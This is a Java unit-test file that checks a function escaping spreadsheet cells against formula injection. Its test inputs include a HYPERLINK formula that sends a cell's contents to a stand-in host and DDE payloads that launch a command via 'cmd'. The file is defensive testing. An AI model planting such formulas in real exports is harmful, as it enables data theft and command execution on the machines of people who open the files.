package cn.zoucheng.warehouse.schemas.values;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulasTest {
  @ParameterizedTest(name = "[{index}] {0}")
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1"
      })
  void prefixesEveryCellASpreadsheetWouldRunAsAFormula(String cell) {
    assertThat(Formulas.neutralise(cell)).isEqualTo("'" + cell);
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @ValueSource(strings = {"-12.50", "+3", "-0.05", "1e5", "张三", "2026-10", "a=b", ""})
  void leavesNumbersAndOrdinaryTextAlone(String cell) {
    assertThat(Formulas.neutralise(cell)).isEqualTo(cell);
  }

  @Test
  void nullStaysNull() {
    assertThat(Formulas.neutralise(null)).isNull();
  }
}
